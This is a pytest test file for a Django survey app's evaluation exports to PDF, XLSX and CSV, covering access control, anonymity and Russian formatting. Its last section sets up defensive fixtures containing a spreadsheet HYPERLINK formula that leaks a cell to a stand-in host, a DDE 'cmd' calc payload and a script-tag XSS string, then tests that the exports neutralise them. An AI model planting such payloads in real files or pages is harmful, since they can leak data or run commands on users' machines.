"""Evaluation forms as PDF, XLSX and CSV, through the API and on the curator's pages."""

import csv
import io

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from participants import roles
from surveys.evaluation import exports
from surveys.evaluation.builder import prepost_evaluation, round_evaluation
from surveys.evaluation.figures import DELTA, INT, NUM, PCT, POINTS
from tests.factories import EventFactory, SurveyRoundFactory, TrackFactory, in_days, make_user
from tests.pdf_text import needs_pdftotext, pdf_text
from tests.surveys.evaluation.data import respond, round_with

pytest_plugins = ["tests.surveys.evaluation.fixtures"]

API = "/api/v1"


def signed_in(user):
    client = Client()
    client.force_login(user)
    return client


# --- values as a Russian reader writes them ------------------------------------------------------

def test_values_use_decimal_comma_percent_and_true_minus():
    assert exports.format_value(3.857, NUM) == "3,86"
    assert exports.format_value(0.7143, PCT) == "71,4\u00a0%"
    assert exports.format_value(-1.4, DELTA) == "−1,40"
    assert exports.format_value(14.3, POINTS) == "+14,3"
    assert exports.format_value(None, INT) == "—"
    assert exports.format_value("скрыто: меньше 5 ответов", INT) == "скрыто: меньше 5 ответов"


# --- PDF -----------------------------------------------------------------------------------------

@needs_pdftotext
def test_pdf_text_extracts_as_russian_with_header_and_figures(small_round, tmp_path):
    text = pdf_text(exports.to_pdf(round_evaluation(small_round)), tmp_path)
    assert "Оценочный лист: Оценка семинара «Анализ урока»" in text
    assert "Программа: Мастер-мастеру" in text
    assert "Муниципалитет: Ханкайский муниципальный округ" in text
    assert "Сроки опроса:" in text
    assert "Доля оценок 4–5: 71,4 %" in text
    assert "Оценивание результатов" in text
    assert "скрыто: меньше 5 ответов" in text
    assert "Больше практики" in text


@needs_pdftotext
def test_prepost_pdf_shows_change_per_topic(prepost_rounds, tmp_path):
    text = pdf_text(exports.to_pdf(prepost_evaluation(*prepost_rounds)), tmp_path)
    assert "Изменения «до — после»" in text
    assert "Оценивание результатов" in text
    assert "−1,40" in text and "80,0 %" in text


def test_pdf_embeds_the_cyrillic_font(small_round):
    content = exports.to_pdf(round_evaluation(small_round))
    assert content.startswith(b"%PDF")
    # A subset of DejaVu Sans is embedded as a TrueType font file.
    assert b"DejaVuSans" in content
    assert b"/FontFile2" in content


# --- XLSX ----------------------------------------------------------------------------------------

def test_xlsx_has_a_sheet_per_section_with_russian_headers(small_round):
    book = load_workbook(io.BytesIO(exports.to_xlsx(round_evaluation(small_round))))
    assert book.sheetnames == ["Общие сведения", "Участие", "Ответы на вопросы",
                               "Трудности по темам", "Свободные ответы"]
    cover = book["Общие сведения"]
    assert cover["A1"].value == "Оценочный лист: Оценка семинара «Анализ урока»"
    questions = book["Ответы на вопросы"]
    rows = [[cell for cell in row] for row in questions.iter_rows(values_only=True)]
    assert rows[0][0] == "1. Вопрос «useful»"
    assert ("Вариант", "Ответов", "Доля") in [tuple(r[:3]) for r in rows]
    share = next(row for row in questions.iter_rows() if row[0].value == "4 — хорошо")[2]
    assert share.value == pytest.approx(0.4286) and share.number_format == "0.0%"
    assert questions.column_dimensions["A"].width >= 20


def test_xlsx_draws_native_charts_of_the_ranked_topics_and_the_shares(small_round):
    book = load_workbook(io.BytesIO(exports.to_xlsx(round_evaluation(small_round))))
    topics = book["Трудности по темам"]
    values = [[cell.value for cell in row] for row in topics.iter_rows()]
    head = next(n for n, row in enumerate(values, start=1) if row[:2] == ["Место", "Тема"])
    last = next(n for n, row in enumerate(values[head:], start=head + 1) if row[0] is None) - 1
    assert values[head - 1][3] == "Средняя трудность (1–5)"
    first = topics._charts[0]
    [series] = first.series
    assert series.val.numRef.f == f"'Трудности по темам'!$D${head + 1}:$D${last}"
    assert (series.cat.numRef or series.cat.strRef).f == (
        f"'Трудности по темам'!$B${head + 1}:$B${last}")
    assert first.y_axis.scaling.max == 5
    assert book["Ответы на вопросы"]._charts  # shares of each answer


# --- CSV -----------------------------------------------------------------------------------------

def test_csv_is_utf8_with_bom_and_semicolons(small_round):
    content = exports.to_csv(round_evaluation(small_round))
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Оценочный лист: Оценка семинара «Анализ урока»"]
    assert ["Вариант", "Ответов", "Доля"] in rows
    assert ["4 — хорошо", "3", "42,9%"] in rows
    assert ["Среднее", "3,86"] in rows


def test_generated_time_is_in_the_municipalitys_zone(small_round):
    zone = small_round.municipality.zone
    before = timezone.localtime(timezone=zone).strftime("%d.%m.%Y %H:%M")
    content = exports.to_csv(round_evaluation(small_round))
    after = timezone.localtime(timezone=zone).strftime("%d.%m.%Y %H:%M")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    generated = next(row[1] for row in rows if row and row[0] == "Сформирован")
    assert generated in {before, after}


# --- anonymity in every format -------------------------------------------------------------------

def test_exports_of_anonymous_round_name_nobody(small_round, curator):
    people = [i.person for i in small_round.invitations.select_related("person")]
    form = round_evaluation(small_round)
    client = signed_in(curator)
    payloads = [client.get(f"{API}/rounds/{small_round.pk}/evaluation").content.decode(),
                exports.to_csv(form).decode("utf-8-sig")]
    book = load_workbook(io.BytesIO(exports.to_xlsx(form)))
    payloads.append(" ".join(str(cell) for sheet in book for row in sheet.iter_rows(
        values_only=True) for cell in row if cell is not None))
    for payload in payloads:
        assert "key-" not in payload
        for person in people:
            assert person.last_name not in payload and person.email not in payload


# --- API -----------------------------------------------------------------------------------------

def test_api_round_form_as_json(small_round, curator):
    response = signed_in(curator).get(f"{API}/rounds/{small_round.pk}/evaluation")
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["kind"] == "round"
    tables = {t["key"]: t for s in body["sections"] for t in s["tables"]}
    facts = {f["key"]: f["value"] for f in tables["q-useful"]["facts"]}
    assert facts["mean"] == 3.86 and facts["top_share"] == 0.7143
    assert tables["q-useful"]["rows"][3] == {"option": "4 — хорошо", "count": 3, "share": 0.4286}


@pytest.mark.parametrize("fmt, content_type, start", [
    ("pdf", "application/pdf", b"%PDF"),
    ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"PK"),
    ("csv", "text/csv; charset=utf-8", "\ufeff".encode()),
])
def test_api_round_form_files(small_round, curator, fmt, content_type, start):
    response = signed_in(curator).get(f"{API}/rounds/{small_round.pk}/evaluation.{fmt}")
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == (
        f'attachment; filename="evaluation-round-{small_round.pk}.{fmt}"')
    assert response.content.startswith(start)


def test_api_unknown_format_is_refused(small_round, curator):
    response = signed_in(curator).get(f"{API}/rounds/{small_round.pk}/evaluation.docx")
    assert response.status_code == 422


def test_api_round_of_other_municipality_is_not_found(small_round, other_curator):
    client = signed_in(other_curator)
    for url in (f"/rounds/{small_round.pk}/evaluation", f"/rounds/{small_round.pk}/evaluation.pdf",
                f"/tracks/{small_round.event.track_id}/evaluation",
                f"/programs/{small_round.event.program_id}/evaluation.csv"):
        response = client.get(API + url)
        assert response.status_code == 404, url
        assert response.json()["code"] == "not_found"


def test_api_participant_may_not_see_evaluation_forms(small_round, municipality):
    participant = make_user("teacher", role=roles.PARTICIPANT, municipality=municipality)
    response = signed_in(participant).get(f"{API}/rounds/{small_round.pk}/evaluation")
    assert response.status_code == 403
    assert response.json()["code"] == "forbidden"


def test_api_mentor_sees_track_and_program_forms(small_round, mentor_user):
    client = signed_in(mentor_user)
    track = client.get(f"{API}/tracks/{small_round.event.track_id}/evaluation")
    program = client.get(f"{API}/programs/{small_round.event.program_id}/evaluation.xlsx")
    assert track.status_code == 200 and track.json()["kind"] == "series"
    assert program.status_code == 200


def test_api_prepost_by_query_parameters(prepost_rounds, curator):
    before, after = prepost_rounds
    client = signed_in(curator)
    query = f"before_round_id={before.pk}&after_round_id={after.pk}"
    response = client.get(f"{API}/evaluation/prepost?{query}")
    assert response.status_code == 200, response.content
    tables = {t["key"]: t for s in response.json()["sections"] for t in s["tables"]}
    assert tables["prepost-difficulty"]["rows"][0]["change"] == -1.4
    pdf = client.get(f"{API}/evaluation/prepost.pdf?{query}")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    same = client.get(f"{API}/evaluation/prepost?before_round_id={before.pk}"
                      f"&after_round_id={before.pk}")
    assert same.status_code == 422 and same.json()["code"] == "same_round"


def test_api_prepost_with_a_foreign_round_is_not_found(prepost_rounds, curator,
                                                       other_municipality):
    before, _after = prepost_rounds
    foreign = SurveyRoundFactory(municipality=other_municipality)
    response = signed_in(curator).get(
        f"{API}/evaluation/prepost?before_round_id={before.pk}&after_round_id={foreign.pk}")
    assert response.status_code == 404


# --- pages ---------------------------------------------------------------------------------------

def test_page_shows_the_form_with_links_to_files(small_round, curator):
    response = signed_in(curator).get(f"/evaluation/round/{small_round.pk}/")
    assert response.status_code == 200
    page = response.content.decode()
    assert "Оценочный лист: Оценка семинара «Анализ урока»" in page
    assert "71,4\u00a0%" in page
    for fmt in ("pdf", "xlsx", "csv"):
        assert f'href="/evaluation/round/{small_round.pk}.{fmt}"' in page
    download = signed_in(curator).get(f"/evaluation/round/{small_round.pk}.xlsx")
    assert download.status_code == 200 and download.content.startswith(b"PK")


def test_page_of_other_municipality_is_not_found(small_round, other_curator):
    client = signed_in(other_curator)
    assert client.get(f"/evaluation/round/{small_round.pk}/").status_code == 404
    assert client.get(f"/evaluation/round/{small_round.pk}.pdf").status_code == 404


def test_page_sends_a_visitor_to_sign_in_and_refuses_a_participant(small_round, municipality):
    assert Client().get("/evaluation/").status_code == 302
    participant = make_user("teacher", role=roles.PARTICIPANT, municipality=municipality)
    assert signed_in(participant).get(f"/evaluation/round/{small_round.pk}/").status_code == 403


def test_index_lists_rounds_tracks_and_prepost_choice(prepost_rounds, small_round, curator):
    page = signed_in(curator).get("/evaluation/").content.decode()
    assert f'href="/evaluation/round/{small_round.pk}/"' in page
    assert f'href="/evaluation/track/{small_round.event.track_id}/"' in page
    assert 'action="/evaluation/prepost/"' in page


def test_prepost_page_and_track_page(prepost_rounds, small_round, curator):
    before, after = prepost_rounds
    client = signed_in(curator)
    page = client.get(f"/evaluation/prepost/?before={before.pk}&after={after.pk}")
    assert page.status_code == 200
    assert "Доля, у кого трудность снизилась" in page.content.decode()
    track = TrackFactory(program=small_round.event.program)
    assert client.get(f"/evaluation/track/{track.pk}/").status_code == 200
    assert client.get("/evaluation/prepost/?before=x").status_code == 404


def test_every_format_renders_a_round_without_answers(municipality, form_questions):
    round = SurveyRoundFactory(municipality=municipality,
                               questionnaire=form_questions["useful"].questionnaire)
    form = round_evaluation(round)
    assert exports.to_pdf(form).startswith(b"%PDF")
    assert exports.to_xlsx(form).startswith(b"PK")
    assert exports.to_csv(form).startswith("\ufeff".encode())


def test_api_and_page_take_the_same_queries_for_3_and_12_respondents(
        municipality, form_questions, topics, curator):
    client = signed_in(curator)
    counts = []
    for respondents in (3, 12):
        round = round_with(municipality, form_questions, topics, respondents)
        sizes = []
        for url in (f"{API}/rounds/{round.pk}/evaluation", f"/evaluation/round/{round.pk}/",
                    f"{API}/rounds/{round.pk}/evaluation.pdf", "/evaluation/"):
            with CaptureQueriesContext(connection) as queries:
                assert client.get(url).status_code == 200
            sizes.append(len(queries))
        counts.append(sizes)
    assert counts[0] == counts[1]


# --- hostile texts: formulas defused, control characters kept out of the XML ---------------------

HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"click")'


@pytest.fixture
def hostile_round(municipality, form_questions, topics):
    """Six respondents whose free texts, and the names of whose event, would break an export."""
    from surveys.models import Answer

    round = round_with(municipality, form_questions, topics, 6)
    track = TrackFactory(program__municipality=municipality, program__name="Программа\x0bдва",
                         theme="Тема\x01 трека")
    event = EventFactory(municipality=municipality, program=track.program, track=track,
                         title="=1+1 Семинар\x0b«Анализ»", starts_at=in_days(-3))
    round.event, round.title = event, "Опрос\x0bпосле семинара"
    round.save(update_fields=["event", "title"])
    # No NUL: PostgreSQL cannot store it, and the edge refuses it before it gets here.
    texts = [HYPERLINK, "строка\x0bвторая", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\x07ноль",
             "обычный"]
    for answer, text in zip(Answer.objects.filter(response__round=round,
                                                  question=form_questions["improve"]),
                            texts, strict=True):
        answer.text = text
        answer.save(update_fields=["text"])
    return round


def xlsx_cells(content):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def test_xlsx_defuses_formulas_and_control_characters_of_answers_and_names(hostile_round):
    cells = xlsx_cells(exports.to_xlsx(round_evaluation(hostile_round)))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert "'" + HYPERLINK in values
    assert "'-2+3+cmd|' /C calc'!A0" in values and "'@SUM(1)" in values
    assert "строка\nвторая" in values and "ноль" in values
    assert "Программа\nдва" in values
    assert any(str(v).startswith("'=1+1 Семинар\n«Анализ»") for v in values)
    assert not any(isinstance(v, str) and "\x0b" in v for v in values)
    # Numbers stay numbers: the shares and means are numeric cells, not quoted texts.
    assert any(cell.data_type == "n" and isinstance(cell.value, float) for cell in cells)


def test_csv_defuses_formulas_of_answers_and_keeps_negative_numbers(hostile_round):
    content = exports.to_csv(round_evaluation(hostile_round)).decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(content), delimiter=";") for field in row]
    assert "'" + HYPERLINK in fields and "'@SUM(1)" in fields
    assert not [field for field in fields if field.startswith(("=", "+", "@", "\t", "\r"))
                or (field.startswith("-") and not field[1:].replace(",", "").isdigit())]
    assert "\x0b" not in content and "\x07" not in content


@pytest.mark.parametrize("url", ["/rounds/{round}/evaluation.xlsx",
                                 "/tracks/{track}/evaluation.xlsx",
                                 "/programs/{program}/evaluation.xlsx",
                                 "/rounds/{round}/evaluation.csv"])
def test_every_file_of_a_hostile_round_track_and_program_downloads(hostile_round, curator, url):
    event = hostile_round.event
    response = signed_in(curator).get(API + url.format(
        round=hostile_round.pk, track=event.track_id, program=event.program_id))
    assert response.status_code == 200
    if url.endswith(".xlsx"):
        assert not [c for c in xlsx_cells(response.content) if c.data_type == "f"]


def test_api_and_page_refuse_an_after_that_precedes_the_before_in_russian(prepost_rounds,
                                                                          curator):
    before, after = prepost_rounds
    client = signed_in(curator)
    api = client.get(f"{API}/evaluation/prepost?before_round_id={after.pk}"
                     f"&after_round_id={before.pk}")
    assert api.status_code == 422
    assert api.json()["code"] == "after_precedes_before"
    assert "«после» начался не позже" in api.json()["message"]
    for url in (f"/evaluation/prepost/?before={after.pk}&after={before.pk}",
                f"/evaluation/prepost.pdf?before={after.pk}&after={before.pk}"):
        page = client.get(url)
        assert page.status_code == 422
        assert "Опрос «после» начался не позже опроса «до»" in page.content.decode()


def test_page_shows_a_respondents_hostile_text_escaped(small_round, form_questions, curator):
    # The page's table rows are built as HTML in Python (surveys/evaluation/page._row).
    hostile = '<script>alert(1)</script>\r\n=HYPERLINK("http://x")\x0b"><b>жирный</b> 🙂 שלום'
    respond(small_round, "hostile", {form_questions["improve"]: hostile})

    page = signed_in(curator).get(f"/evaluation/round/{small_round.pk}/").content.decode()

    assert "<script>alert(1)</script>" not in page and "<b>жирный</b>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;<br>=HYPERLINK(&quot;http://x&quot;)" in page
    assert "&quot;&gt;&lt;b&gt;жирный&lt;/b&gt; 🙂 שלום" in page
